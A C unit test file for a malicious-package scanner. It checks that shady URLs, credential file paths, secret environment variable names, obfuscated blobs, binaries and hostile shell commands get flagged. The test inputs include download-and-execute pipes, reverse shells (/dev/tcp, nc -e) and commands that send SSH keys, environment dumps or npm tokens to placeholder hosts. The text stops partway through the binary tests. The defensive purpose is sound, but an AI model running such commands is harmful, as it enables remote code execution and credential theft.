/* test_scan.c - unit tests of the language-neutral scanners:
 * pv_scan_literal, pv_is_secret_env_name, pv_scan_shell, pv_scan_binary. */
#include "analyze.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

static int failures;

#define EXPECT(cond, ...)                                                       \
	do {                                                                    \
		if (!(cond)) {                                                  \
			failures++;                                             \
			fprintf(stderr, "%s:%d: FAIL: ", __FILE__, __LINE__);   \
			fprintf(stderr, __VA_ARGS__);                           \
			fputc('\n', stderr);                                    \
		}                                                               \
	} while (0)

static void dump(const struct pv_findings *fs)
{
	for (size_t i = 0; i < fs->n; i++)
		fprintf(stderr, "    [%s] line %u: %s\n", fs->v[i].attr, fs->v[i].line,
		        fs->v[i].detail ? fs->v[i].detail : "");
}

/* Scan s as a literal; does the result contain attr? */
static bool lit_has(const char *s, size_t n, const char *attr)
{
	struct pv_source src = {"t.js", s, n, false};
	struct pv_findings fs = {0};
	pv_scan_literal(&src, 0, 0, s, n, &fs);
	bool r = pv_findings_has(&fs, attr);
	pv_findings_free(&fs);
	return r;
}

static void lit_show(const char *s, size_t n)
{
	struct pv_source src = {"t.js", s, n, false};
	struct pv_findings fs = {0};
	pv_scan_literal(&src, 0, 0, s, n, &fs);
	dump(&fs);
	pv_findings_free(&fs);
}

#define LIT_YES(s, attr)                                                         \
	do {                                                                     \
		bool ok_ = lit_has(s, strlen(s), attr);                          \
		EXPECT(ok_, "literal \"%.80s\" should report %s", s, attr);      \
		if (!ok_)                                                        \
			lit_show(s, strlen(s));                                  \
	} while (0)
#define LIT_NO(s, attr)                                                          \
	do {                                                                     \
		bool bad_ = lit_has(s, strlen(s), attr);                         \
		EXPECT(!bad_, "literal \"%.80s\" should not report %s", s, attr); \
		if (bad_)                                                        \
			lit_show(s, strlen(s));                                  \
	} while (0)

/* The detail of the first finding of attr for literal s, into buf. */
static const char *lit_detail(const char *s, const char *attr, char *buf, size_t cap)
{
	struct pv_source src = {"t.js", s, strlen(s), false};
	struct pv_findings fs = {0};
	pv_scan_literal(&src, 0, 0, s, strlen(s), &fs);
	buf[0] = '\0';
	for (size_t i = 0; i < fs.n; i++)
		if (strcmp(fs.v[i].attr, attr) == 0 && fs.v[i].detail) {
			snprintf(buf, cap, "%s", fs.v[i].detail);
			break;
		}
	pv_findings_free(&fs);
	return buf;
}

static void test_urls(void)
{
	LIT_YES("https://pastebin.com/raw/x", "shady-url");
	LIT_YES("HTTPS://PasteBin.COM/raw/abc", "shady-url");
	LIT_YES("http://evil.pastebin.com/raw/x", "shady-url");
	LIT_NO("https://notpastebin.com/raw/x", "shady-url");
	LIT_NO("https://example.com/pastebin", "shady-url");
	LIT_NO("https://pastebin.com.example.org/x", "shady-url");
	LIT_YES("https://discord.com/api/webhooks/1234/abcd", "shady-url");
	LIT_YES("https://discordapp.com/api/webhooks/1234/abcd", "shady-url");
	LIT_YES("https://ptb.discord.com/api/v10/webhooks/1/x", "shady-url");
	LIT_NO("https://discord.com/invite/abc", "shady-url");
	LIT_NO("https://discord.com/api/v10/channels", "shady-url");
	LIT_YES("https://api.telegram.org/bot123:ABC/sendMessage", "shady-url");
	LIT_YES("https://abc.m.pipedream.net", "shady-url");
	LIT_YES("https://webhook.site/1f2e3d", "shady-url");
	LIT_YES("http://x1y2.oastify.com/", "shady-url");
	LIT_YES("http://abc.oast.fun", "shady-url");
	LIT_YES("https://abcd-12-34.ngrok-free.app/upload", "shady-url");
	LIT_YES("https://foo.trycloudflare.com", "shady-url");
	LIT_YES("https://bit.ly/3xYz", "shady-url");
	LIT_YES("https://t.co/abc", "shady-url");
	LIT_NO("https://microsoft.co/abc", "shady-url");
	LIT_YES("https://transfer.sh/abc/payload", "shady-url");
	LIT_NO("https://raw.githubusercontent.com/user/repo/main/install.sh", "shady-url");
	LIT_YES("wss://x.loca.lt/socket", "shady-url");
	LIT_YES("see https://rentry.co/abc for details", "shady-url");
	LIT_YES("https://user:pw@pastebin.com/x", "shady-url");
	LIT_YES("https://www.toptal.com/developers/hastebin/raw/abc", "shady-url");
	LIT_NO("https://www.toptal.com/developers/blog", "shady-url");
	/* raw IPs */
	LIT_YES("http://45.33.12.9:8080/x", "shady-url");
	LIT_YES("http://45.33.12.9/x", "shady-url");
	LIT_NO("http://127.0.0.1:3000", "shady-url");
	LIT_NO("http://localhost:3000/api", "shady-url");
	LIT_NO("http://0.0.0.0:8080", "shady-url");
	LIT_NO("http://192.168.1.10/x", "shady-url");
	LIT_NO("http://10.0.0.1/x", "shady-url");
	LIT_NO("http://172.20.0.1/x", "shady-url");
	LIT_NO("http://169.254.169.254/latest/meta-data", "shady-url");
	LIT_NO("http://192.0.2.1/doc", "shady-url");
	LIT_YES("http://[2606:4700::1111]:443/x", "shady-url");
	LIT_NO("http://[::1]:3000/", "shady-url");
	LIT_NO("http://[fe80::1]/", "shady-url");
	LIT_NO("http://999.1.1.1/x", "shady-url");
	LIT_YES("http://758713353/x", "shady-url");  /* 45.56.x.x as one number */
	LIT_YES("http://0x2d210c09/x", "shady-url");
	LIT_NO("http://2130706433/", "shady-url");   /* 127.0.0.1 */
	LIT_NO("http://1234/", "shady-url");
	LIT_NO("192.0.0.0/24", "shady-url");        /* a network, not a URL */
	LIT_NO("8.8.8.0/24", "shady-url");
	/* bare hosts */
	LIT_YES("pastebin.com/raw/abc", "shady-url");
	LIT_YES("api.telegram.org", "shady-url");
	LIT_YES("45.33.12.9:4444", "shady-url");
	LIT_NO("1.2.3.4", "shady-url");  /* could be a version */
	LIT_NO("transfer.sh", "shady-url"); /* a script name */
	LIT_NO("temp.sh", "shady-url");
	LIT_NO("user@pastebin.com", "shady-url");
	LIT_NO("lodash.debounce", "shady-url");
	LIT_NO("https://${host}.pastebin-mirror/x", "shady-url");
	/* detail names host and reason */
	char buf[256];
	lit_detail("https://discord.com/api/webhooks/1/x", "shady-url", buf, sizeof buf);
	EXPECT(strstr(buf, "discord.com") && strstr(buf, "Discord webhook"), "detail: %s", buf);
	lit_detail("http://45.33.12.9:8080/x", "shady-url", buf, sizeof buf);
	EXPECT(strstr(buf, "45.33.12.9") && strstr(buf, "raw IP"), "detail: %s", buf);
	lit_detail("https://pastebin.com/raw/x", "shady-url", buf, sizeof buf);
	EXPECT(strstr(buf, "paste site"), "detail: %s", buf);
	/* several URLs in one string: the shady one is found */
	LIT_YES("https://example.com/a https://example.org/b http://ngrok.io/c", "shady-url");
}

static void test_paths(void)
{
	LIT_YES("~/.ssh/id_rsa", "sensitive-read");
	LIT_YES(".ssh", "sensitive-read");
	LIT_YES("id_ed25519", "sensitive-read");
	LIT_YES("/home/x/.aws/credentials", "sensitive-read");
	LIT_YES(".aws", "sensitive-read");
	LIT_YES(".npmrc", "sensitive-read");
	LIT_YES("~/.pypirc", "sensitive-read");
	LIT_YES("/root/.netrc", "sensitive-read");
	LIT_YES(".git-credentials", "sensitive-read");
	LIT_YES("~/.docker/config.json", "sensitive-read");
	LIT_YES("~/.kube/config", "sensitive-read");
	LIT_YES("/etc/passwd", "sensitive-read");
	LIT_YES("/etc/shadow", "sensitive-read");
	LIT_YES("Login Data", "sensitive-read");
	LIT_YES("Local State", "sensitive-read");
	LIT_YES("C:\\Users\\x\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Network\\Cookies",
	        "sensitive-read");
	LIT_YES("key4.db", "sensitive-read");
	LIT_YES("logins.json", "sensitive-read");
	LIT_YES("Mozilla/Firefox/Profiles", "sensitive-read");
	LIT_YES("wallet.dat", "sensitive-read");
	LIT_YES("AppData/Roaming/Exodus/exodus.wallet", "sensitive-read");
	LIT_YES("Electrum/wallets", "sensitive-read");
	LIT_YES("nkbihfbeogaeaoehlefnkodbefgpgknn", "sensitive-read");
	LIT_YES("discord/Local Storage/leveldb", "sensitive-read");
	LIT_YES("~/.bash_history", "sensitive-read");
	LIT_YES("~/.gnupg/", "sensitive-read");
	LIT_YES("/proc/self/environ", "sensitive-read");
	LIT_YES("AppData\\Roaming\\Telegram Desktop\\tdata", "sensitive-read");
	LIT_YES("cat ~/.npmrc and send it", "sensitive-read");
	/* negatives */
	LIT_NO("sshpk", "sensitive-read");
	LIT_NO("my.ssh.config.js", "sensitive-read");
	LIT_NO("passwd", "sensitive-read");
	LIT_NO("Cookies", "sensitive-read");
	LIT_NO("/api/cookies", "sensitive-read");
	LIT_NO("Please enter your login data below", "sensitive-read");
	LIT_NO("local state management", "sensitive-read");
	LIT_NO("id_rsa_helper_module", "sensitive-read");
	LIT_NO(".npmrc-template-x", "sensitive-read");
	LIT_NO("./lib/keyboard.js", "sensitive-read");
	LIT_NO("Reads the .pypirc file.", "sensitive-read");
	LIT_NO(".npmrc allow-scripts setting is ignored", "sensitive-read");
	char buf[256];
	lit_detail("/home/u/.ssh/id_rsa", "sensitive-read", buf, sizeof buf);
	EXPECT(strstr(buf, "SSH") != NULL, "detail: %s", buf);
}

static void test_env_names(void)
{
	static const char *const yes[] = {
		"NPM_TOKEN", "NODE_AUTH_TOKEN", "GITHUB_TOKEN", "GH_TOKEN", "GITLAB_TOKEN",
		"AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY", "AWS_SESSION_TOKEN",
		"AZURE_CLIENT_SECRET", "AZURE_STORAGE_SECRET_VALUE", "GOOGLE_APPLICATION_CREDENTIALS",
		"PYPI_TOKEN", "TWINE_PASSWORD", "DOCKER_PASSWORD", "SLACK_TOKEN", "MY_APP_TOKEN",
		"STRIPE_SECRET", "STRIPE_SECRET_KEY", "DB_PASSWORD", "SENDGRID_API_KEY",
		"SSH_PRIVATE_KEY", "S3_ACCESS_KEY", "GCP_CREDENTIALS_JSON", "npm_token", "github_token",
	};
	static const char *const no[] = {
		"PATH", "HOME", "NODE_ENV", "TOKEN", "access_token", "api_key", "csrf_token",
		"PAD_TOKEN", "EOF_TOKEN", "CSRF_TOKEN", "NPM_TOKEN!", "NPM TOKEN", "1_TOKEN_X",
		"_TOKEN", "my_password", "", "DEBUG", "PASSWORD_MIN_LENGTH", "INVALID_HEADER_TOKEN",
		"CURLOPT_PASSWORD", "HAVE_STRUCT_PASSWD_PW_PASSWD",
	};
	for (size_t i = 0; i < sizeof yes / sizeof *yes; i++)
		EXPECT(pv_is_secret_env_name(yes[i], strlen(yes[i])), "%s should be a secret name", yes[i]);
	for (size_t i = 0; i < sizeof no / sizeof *no; i++)
		EXPECT(!pv_is_secret_env_name(no[i], strlen(no[i])), "%s should not be a secret name", no[i]);
	char longname[200];
	memset(longname, 'A', sizeof longname);
	memcpy(longname + 190, "_TOKEN", 6);
	EXPECT(!pv_is_secret_env_name(longname, 196), "196-char name is too long");
	LIT_YES("NPM_TOKEN", "sensitive-read");
	LIT_YES("AWS_SECRET_ACCESS_KEY", "sensitive-read");
	LIT_NO("NODE_ENV", "sensitive-read");
	LIT_NO("access_token", "sensitive-read");
}

/* Deterministic pseudo-random base64. */
static void fill_b64(char *buf, size_t n, unsigned seed)
{
	static const char a[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
	unsigned x = seed;
	for (size_t i = 0; i < n; i++) {
		x = x * 1103515245u + 12345u;
		buf[i] = a[(x >> 16) & 63];
	}
	buf[n] = '\0';
}

static void test_obfuscation(void)
{
	char *b = malloc(8192);
	if (!b)
		return;
	fill_b64(b, 400, 1);
	LIT_YES(b, "obfuscation");
	char buf[256];
	lit_detail(b, "obfuscation", buf, sizeof buf);
	EXPECT(strstr(buf, "base64") && strstr(buf, "400"), "detail: %s", buf);
	/* embedded in code text */
	memcpy(b, "eval(atob('", 11);
	fill_b64(b + 11, 300, 2);
	strcat(b, "'))");
	LIT_YES(b, "obfuscation");
	/* short base64 is fine */
	fill_b64(b, 120, 3);
	LIT_NO(b, "obfuscation");
	/* data URIs of images / fonts / source maps are not payloads */
	strcpy(b, "data:image/png;base64,");
	fill_b64(b + strlen(b), 2000, 4);
	LIT_NO(b, "obfuscation");
	strcpy(b, "url(data:application/font-woff2;charset=utf-8;base64,");
	fill_b64(b + strlen(b), 2000, 5);
	strcat(b, ")");
	LIT_NO(b, "obfuscation");
	strcpy(b, "//# sourceMappingURL=data:application/json;charset=utf-8;base64,");
	fill_b64(b + strlen(b), 2000, 6);
	LIT_NO(b, "obfuscation");
	/* ... but code in a data URI is */
	strcpy(b, "data:text/javascript;base64,");
	fill_b64(b + strlen(b), 400, 7);
	LIT_YES(b, "obfuscation");
	/* base64 of a WebAssembly module: a binary, not obfuscation */
	strcpy(b, "AGFzbQEAAAAB");
	fill_b64(b + strlen(b), 600, 8);
	LIT_NO(b, "obfuscation");
	LIT_YES(b, "binary");
	/* base64 of an embedded image or font: media, not a payload */
	strcpy(b, "R0lGODlhAQABAIAAAP");
	fill_b64(b + strlen(b), 600, 10);
	LIT_NO(b, "obfuscation");
	strcpy(b, "iVBORw0KGgoAAAANSUhEUg");
	fill_b64(b + strlen(b), 600, 11);
	LIT_NO(b, "obfuscation");
	strcpy(b, "d09GMgABAAAAA");
	fill_b64(b + strlen(b), 600, 12);
	LIT_NO(b, "obfuscation");
	/* base64 of an ELF executable: both */
	strcpy(b, "f0VMRgIBAQAA");
	fill_b64(b + strlen(b), 600, 9);
	LIT_YES(b, "obfuscation");
	LIT_YES(b, "binary");
	/* hex */
	{
		static const char hx[] = "0123456789abcdef";
		unsigned x = 9;
		for (int i = 0; i < 300; i++) {
			x = x * 1103515245u + 12345u;
			b[i] = hx[(x >> 16) & 15];
		}
		b[300] = '\0';
		LIT_YES(b, "obfuscation");
		lit_detail(b, "obfuscation", buf, sizeof buf);
		EXPECT(strstr(buf, "hex") != NULL, "detail: %s", buf);
	}
	/* random bytes (decoded \xNN escapes) */
	{
		unsigned x = 77;
		for (int i = 0; i < 600; i++) {
			x = x * 1103515245u + 12345u;
			b[i] = (char)((x >> 16) & 0xff);
			if (b[i] == 0)
				b[i] = 1;
		}
		b[600] = '\0';
		LIT_YES(b, "obfuscation");
	}
	/* long normal text, webpack-ish strings, regex sources, identifiers */
	LIT_NO("The quick brown fox jumps over the lazy dog. The quick brown fox jumps over the "
	       "lazy dog. The quick brown fox jumps over the lazy dog. The quick brown fox jumps "
	       "over the lazy dog. The quick brown fox jumps over the lazy dog. The quick brown "
	       "fox jumps over the lazy dog.",
	       "obfuscation");
	LIT_NO("[object Arguments]|[object Array]|[object Boolean]|[object Date]|[object Error]|"
	       "[object Function]|[object Map]|[object Number]|[object Object]|[object RegExp]|"
	       "[object Set]|[object String]|[object Symbol]|[object WeakMap]|[object ArrayBuffer]|"
	       "[object DataView]|[object Float32Array]|[object Float64Array]",
	       "obfuscation");
	LIT_NO("\\ud800-\\udfff\\u0300-\\u036f\\ufe20-\\ufe2f\\u20d0-\\u20ff\\u1ab0-\\u1aff"
	       "\\u1dc0-\\u1dff\\u2700-\\u27bf\\xac\\xb1\\xd7\\xf7\\x00-\\x2f\\x3a-\\x40\\x5b-\\x60"
	       "\\x7b-\\xbf\\u2000-\\u206f \\t\\x0b\\f\\xa0\\ufeff\\n\\r\\u2028\\u2029\\u1680\\u180e"
	       "\\u2000\\u2001\\u2002\\u2003\\u2004\\u2005\\u2006\\u2007\\u2008\\u2009\\u200a\\u202f",
	       "obfuscation");
	LIT_NO("webpack/runtime/compat get default export/webpack/runtime/define property getters/"
	       "webpack/runtime/hasOwnProperty shorthand/webpack/runtime/make namespace object/"
	       "webpack/runtime/publicPath/webpack/runtime/jsonp chunk loading/webpack/bootstrap/"
	       "node_modules/react-dom/cjs/react-dom.production.min.js",
	       "obfuscation");
	LIT_NO("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789+/"
	       "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789-_",
	       "obfuscation");
	/* a long CamelCase / snake identifier list without spaces */
	LIT_NO("getOwnPropertyDescriptor_defineProperty_getPrototypeOf_setPrototypeOf_"
	       "isExtensible_preventExtensions_getOwnPropertyNames_getOwnPropertySymbols_"
	       "hasOwnProperty_propertyIsEnumerable_isPrototypeOf_toLocaleString_valueOf_"
	       "toString_constructor_apply_call_bind_length_name_arguments_caller",
	       "obfuscation");
	/* Unicode identifier tables (acorn) */
	{
		size_t k = 0;
		for (unsigned cp = 0xAA; k < 3000; cp += 7) {
			if (cp >= 0xD800 && cp < 0xE000)
				continue;
			if (cp < 0x800) {
				b[k++] = (char)(0xC0 | (cp >> 6));
				b[k++] = (char)(0x80 | (cp & 0x3F));
			} else {
				b[k++] = (char)(0xE0 | (cp >> 12));
				b[k++] = (char)(0x80 | ((cp >> 6) & 0x3F));
				b[k++] = (char)(0x80 | (cp & 0x3F));
			}
			if (cp % 3 == 0)
				b[k++] = '-';
		}
		b[k] = '\0';
		LIT_NO(b, "obfuscation");
	}
	/* minified JS source in a string */
	{
		static const char js[] =
		    "function(e,t,n){\"use strict\";var r=n(12),o=n(7),i=Object.prototype.hasOwnProperty;"
		    "e.exports=function(e,t){if(!o(e))return r(e);var n=[];for(var a in Object(e))"
		    "i.call(e,a)&&\"constructor\"!=a&&n.push(a);return n},t.default=function(e){return "
		    "e&&e.__esModule?e:{default:e}};var s=/^(?:0|[1-9]\\d*)$/;function u(e,t){var n=typeof e;"
		    "return!!(t=null==t?9007199254740991:t)&&(\"number\"==n||\"symbol\"!=n&&s.test(e))&&e>-1"
		    "&&e%1==0&&e<t}";
		LIT_NO(js, "obfuscation");
	}
	free(b);
}

static void test_literal_fast_path(void)
{
	/* Short and plain strings report nothing. */
	LIT_NO("", "shady-url");
	LIT_NO("abc", "shady-url");
	LIT_NO("use strict", "shady-url");
	LIT_NO("use strict", "sensitive-read");
	LIT_NO("use strict", "obfuscation");
	/* Not NUL-terminated input: scan only n bytes. */
	const char s[] = "https://pastebin.com/raw/x";
	EXPECT(!lit_has(s, 8, "shady-url"), "only n bytes are scanned");
}

/* ---- shell ---------------------------------------------------------------- */

static bool sh_has(const char *cmd, const char *attr)
{
	struct pv_source src = {"package.json", cmd, strlen(cmd), true};
	struct pv_findings fs = {0};
	pv_scan_shell(&src, 0, 0, cmd, strlen(cmd), &fs);
	bool r = pv_findings_has(&fs, attr);
	pv_findings_free(&fs);
	return r;
}

static void sh_show(const char *cmd)
{
	struct pv_source src = {"package.json", cmd, strlen(cmd), true};
	struct pv_findings fs = {0};
	pv_scan_shell(&src, 0, 0, cmd, strlen(cmd), &fs);
	dump(&fs);
	pv_findings_free(&fs);
}

#define SH_YES(cmd, attr)                                                      \
	do {                                                                   \
		bool ok_ = sh_has(cmd, attr);                                  \
		EXPECT(ok_, "shell `%s` should report %s", cmd, attr);         \
		if (!ok_)                                                      \
			sh_show(cmd);                                          \
	} while (0)
#define SH_NO(cmd, attr)                                                       \
	do {                                                                   \
		bool bad_ = sh_has(cmd, attr);                                 \
		EXPECT(!bad_, "shell `%s` should not report %s", cmd, attr);   \
		if (bad_)                                                      \
			sh_show(cmd);                                          \
	} while (0)

static void test_shell(void)
{
	/* download-exec: pipes */
	SH_YES("node install.js && curl -s https://x.example/y.sh | bash", "download-exec");
	SH_YES("curl -fsSL https://get.example.com | sudo -E bash -", "download-exec");
	SH_YES("wget -qO- http://x.example/p | sh", "download-exec");
	SH_YES("curl https://x.example/a.py | python3", "download-exec");
	SH_YES("curl -s https://x.example/a | base64 -d | sh", "download-exec");
	SH_YES("iwr https://x.example/a.ps1 | iex", "download-exec");
	SH_YES("powershell -c \"iex ((New-Object Net.WebClient).DownloadString('https://x.example/a'))\"",
	       "download-exec");
	/* download-exec: substitution */
	SH_YES("sh -c \"$(curl -fsSL https://x.example/install.sh)\"", "download-exec");
	SH_YES("bash <(curl -s https://x.example/i.sh)", "download-exec");
	SH_YES("eval `wget -qO- http://x.example/e`", "download-exec");
	SH_YES("bash -c 'curl -s http://x.example/a | sh'", "download-exec");
	/* download-exec: to a file, then chmod / run */
	SH_YES("curl -o /tmp/x https://x.example/bin && chmod +x /tmp/x && /tmp/x", "download-exec");
	SH_YES("curl -sSLo run.sh https://x.example/run.sh; sh run.sh", "download-exec");
	SH_YES("wget https://x.example/dl/payload; chmod 755 payload", "download-exec");
	SH_YES("curl -O https://x.example/dl/tool.bin && ./tool.bin", "download-exec");
	SH_YES("curl https://x.example/p > p.sh && bash p.sh", "download-exec");
	SH_YES("certutil -urlcache -split -f http://x.example/a.exe a.exe && a.exe", "download-exec");
	SH_YES("powershell Invoke-WebRequest https://x.example/a.exe -OutFile a.exe; start a.exe",
	       "download-exec");
	SH_YES("python3 -c \"import urllib.request;exec(urllib.request.urlopen('http://x.example/p').read())\"",
	       "download-exec");
	SH_YES("node -e \"require('https').get('https://x.example/p',r=>{let d='';r.on('data',c=>d+=c);"
	       "r.on('end',()=>eval(d))})\"",
	       "download-exec");
	SH_YES("cmd /c \"curl -s http://x.example/a.bat -o a.bat && a.bat\"", "download-exec");
	SH_YES("curl -s http://x.example/a | tee /tmp/log | sh", "download-exec");
	SH_YES("curl -s http://x.example/a > /tmp/a.sh; . /tmp/a.sh", "download-exec");
	/* not download-exec */
	SH_NO("node -e \"console.log(require('./package.json').version)\"", "download-exec");
	SH_NO("python -c \"import urllib; print(urllib.__name__)\"", "download-exec");
	SH_NO("curl -s https://x.example/status", "download-exec");
	SH_NO("sh -c 'curl -s https://x.example/status'", "download-exec");
	SH_NO("bash -c \"wget -q https://x.example/a.tgz && tar xzf a.tgz\"", "download-exec");
	SH_NO("curl -o data.json https://x.example/d && node build.js", "download-exec");
	SH_NO("node install.js", "download-exec");
	SH_NO("echo curl | grep sh", "download-exec");
	SH_NO("wget -O out.tgz https://x.example/a.tgz && tar xzf out.tgz", "download-exec");
	SH_NO("npm run build && tsc -p .", "download-exec");

	/* perm-network */
	SH_YES("curl https://x.example", "perm-network");
	SH_YES("nc -e /bin/sh 45.33.12.9 4444", "perm-network");
	SH_YES("ping -c 1 x.example", "perm-network");
	SH_YES("nslookup $(whoami).x.example", "perm-network");
	SH_YES("bash -i >& /dev/tcp/45.33.12.9/4444 0>&1", "perm-network");
	SH_NO("node install.js", "perm-network");
	SH_NO("echo host", "perm-network");
	SH_NO("node-gyp rebuild", "perm-network");

	/* perm-process only for shell escapes */
	SH_YES("sh -c 'echo hi'", "perm-process");
	SH_YES("bash -lc \"make\"", "perm-process");
	SH_YES("eval $X", "perm-process");
	SH_YES("echo `date`", "perm-process");
	SH_YES("echo $(date)", "perm-process");
	SH_NO("node install.js", "perm-process");
	SH_NO("node-gyp rebuild || echo failed", "perm-process");
	SH_NO("echo $((1+2))", "perm-process");
	SH_NO("tsc && node scripts/postinstall.js", "perm-process");

	/* sensitive-read */
	SH_YES("cat ~/.ssh/id_rsa | nc 1.2.3.4 80", "sensitive-read");
	SH_YES("cat /etc/passwd", "sensitive-read");
	SH_YES("env | curl -X POST -d @- https://x.example", "sensitive-read");
	SH_YES("curl -d \"$(printenv)\" https://x.example", "sensitive-read");
	SH_YES("curl https://x.example/?t=$NPM_TOKEN", "sensitive-read");
	SH_YES("curl https://x.example/?t=${GITHUB_TOKEN}", "sensitive-read");
	SH_YES("curl https://x.example < ~/.npmrc", "sensitive-read");
	SH_NO("env NODE_ENV=production node build.js", "sensitive-read");
	SH_NO("cross-env NODE_ENV=production webpack", "sensitive-read");
	SH_NO("echo $HOME", "sensitive-read");

	/* host-fingerprint */
	SH_YES("curl https://x.example/$(whoami)", "host-fingerprint");
	SH_YES("hostname && uname -a", "host-fingerprint");
	SH_YES("id", "host-fingerprint");
	SH_NO("node id.js", "host-fingerprint");
	SH_NO("echo whoami", "host-fingerprint");

	/* decode / obfuscation */
	SH_YES("echo aGVsbG8= | base64 -d | sh", "obfuscation");
	SH_YES("echo aGVsbG8= | base64 --decode | bash", "obfuscation");
	SH_YES("eval \"$(echo aGVsbG8= | base64 -d)\"", "obfuscation");
	SH_YES("echo aGVsbG8= | base64 -d > x", "perm-decode");
	SH_YES("xxd -r -p in.hex out.bin", "perm-decode");
	SH_NO("echo aGVsbG8= | base64 -d > x", "obfuscation");
	SH_NO("base64 file.bin", "perm-decode");
	SH_YES("powershell -enc SQBFAFgA", "obfuscation");

	/* shady URLs inside commands */
	SH_YES("curl -s https://pastebin.com/raw/abc -o x", "shady-url");
	SH_YES("wget http://45.33.12.9:8080/x", "shady-url");
	SH_NO("curl http://localhost:3000/health", "shady-url");

	/* robustness: odd quoting, unterminated constructs, empty input */
	SH_NO("", "download-exec");
	SH_NO("'unterminated", "download-exec");
	SH_NO("echo \"$(unterminated", "download-exec");
	SH_NO("((((((((((", "download-exec");
	SH_NO("a | | | b && && ; ;", "download-exec");
	SH_YES("curl http://x.example/a \\\n  | sh", "download-exec");
	SH_NO("# curl http://x.example/a | sh", "download-exec");

	/* whole install scripts (.sh files run at install time) */
	SH_YES("#!/bin/sh\nset -e\nTMP=$(mktemp -d)\nif curl -fsSL \"$URL\" -o \"$TMP/agent\"; then\n"
	       "  chmod +x \"$TMP/agent\"\nfi\n",
	       "download-exec");
	SH_YES("#!/bin/bash\nfor f in a b; do\n  wget -q http://x.example/$f.sh -O- | bash\ndone\n",
	       "download-exec");
	SH_NO("#!/bin/sh\nif [ -d build ]; then\n  echo ok\nelse\n  node-gyp rebuild\nfi\n",
	      "download-exec");
	SH_NO("#!/bin/sh\nif [ -d build ]; then\n  echo ok\nelse\n  node-gyp rebuild\nfi\n",
	      "perm-network");

	/* everyday lifecycle scripts report nothing at all */
	{
		static const char *const benign[] = {
			"node install.js",
			"node-gyp rebuild",
			"prebuild-install || node-gyp rebuild",
			"node -e \"try{require('./postinstall')}catch(e){}\"",
			"opencollective-postinstall || true",
			"husky install",
			"patch-package && tsc -p tsconfig.json",
			"cross-env NODE_ENV=production webpack --mode production",
			"node ./scripts/postinstall.js || exit 0",
			"npx only-allow pnpm",
			"is-ci || husky install",
			"node-pre-gyp install --fallback-to-build",
			"cmake-js compile",
			"python setup.py build_ext --inplace",
			"echo \"Thanks for installing!\" >&2",
			"rimraf dist && tsc",
		};
		for (size_t i = 0; i < sizeof benign / sizeof *benign; i++) {
			struct pv_source src = {"package.json", benign[i], strlen(benign[i]), true};
			struct pv_findings fs = {0};
			pv_scan_shell(&src, 0, 0, benign[i], strlen(benign[i]), &fs);
			EXPECT(fs.n == 0, "benign script `%s` reported %zu finding(s)", benign[i], fs.n);
			if (fs.n)
				dump(&fs);
			pv_findings_free(&fs);
		}
	}

	/* a long command line */
	{
		size_t n = 300000;
		char *big = malloc(n + 1);
		if (big) {
			for (size_t i = 0; i < n; i++)
				big[i] = "echo a && "[i % 10];
			big[n] = '\0';
			struct pv_source src = {"package.json", big, n, true};
			struct pv_findings fs = {0};
			pv_scan_shell(&src, 0, 0, big, n, &fs);
			EXPECT(!pv_findings_has(&fs, "download-exec"), "big echo command");
			pv_findings_free(&fs);
			free(big);
		}
	}
}

/* ---- binary --------------------------------------------------------------- */

static struct pv_findings bin_scan(const char *path, const void *data, size_t n)
{
	struct pv_source src = {path, data, n, false};
	struct pv_findings fs = {0};
	pv_scan_binary(&src, &fs);
	return fs;
}

static const char *detail_of(const struct pv_findings *fs, const char *attr)
{
	for (size_t i = 0; i < fs->n; i++)
		if (strcmp(fs->v[i].attr, attr) == 0)
			return fs->v[i].detail ? fs->v[i].detail : "";
	return NULL;
}

#define BIN_YES(path, data, len, want, native)                                              \
	do {                                                                                  \
		struct pv_findings fs_ = bin_scan(path, data, len);                           \
		const char *d_ = detail_of(&fs_, "binary");                                   \
		EXPECT(d_ && strstr(d_, want), "%s: binary detail should contain \"%s\", got %s", \
		       path, want, d_ ? d_ : "(none)");                                       \
		EXPECT(pv_findings_has(&fs_, "perm-native") == (native),                      \
		       "%s: perm-native should be %d", path, (int)(native));                  \
		for (size_t i_ = 0; i_ < fs_.n; i_++)                                         \
			EXPECT(fs_.v[i_].line == 0, "%s: line should be 0", path);            \
		pv_findings_free(&fs_);                                                       \
	} while (0)
#define BIN_NO(path, data, len)                                                    \
	do {                                                                     \
		struct pv_findings fs_ = bin_scan(path, data, len);              \
		EXPECT(fs_.n == 0, "%s: should not be a binary", path);          \
		if (fs_.n)                                                       \
			dump(&fs_);                                              \
		pv_findings_free(&fs_);                                          \
	} while (0)

static void test_binary(void)
{
	unsigned char b[512];
	/* ELF executable, little-endian */
	memset(b, 0, sizeof b);
	memcpy(b, "\x7f" "ELF\x02\x01\x01", 7);
	b[16] = 2;
	BIN_YES("bin/tool", b, 64, "ELF executable", true);
	b[16] = 3;
	BIN_YES("build/Release/addon.node", b, 64, "Node native addon", true);
	BIN_YES("lib/libx.so.1.2", b, 64, "ELF shared object", true);
	/* PE */
	memset(b, 0, sizeof b);
	b[0] = 'M';
	b[1] = 'Z';
	b[0x3c] = 0x80;
	memcpy(b + 0x80, "PE\0\0", 4);
	BIN_YES("x.bin", b, 256, "PE (Windows) executable", true);
	b[0x80 + 4 + 18 + 1] = 0x20; /* IMAGE_FILE_DLL */
	BIN_YES("x.bin", b, 256, "PE (Windows) DLL", true);
	/* e_lfanew out of bounds: not PE (and no suspicious name) */
	b[0x3c] = 0xff;
	b[0x3d] = 0xff;
	BIN_NO("readme.txt", b, 256);
	/* "MZ" text file */
	BIN_NO("notes.txt", "MZ is a nice place", 18);
	/* Mach-O */
	memset(b, 0, sizeof b);
	memcpy(b, "\xcf\xfa\xed\xfe", 4);
	b[12] = 2;
	BIN_YES("bin/mac", b, 64, "Mach-O executable", true);
	memcpy(b, "\xfe\xed\xfa\xce", 4);
	b[12] = 0;
	b[15] = 6;
	BIN_YES("bin/mac", b, 64, "Mach-O dynamic library", true);
	/* fat Mach-O vs Java class */
	memset(b, 0, sizeof b);
	memcpy(b, "\xca\xfe\xba\xbe\x00\x00\x00\x02", 8);
	BIN_YES("bin/universal", b, 128, "universal", true);
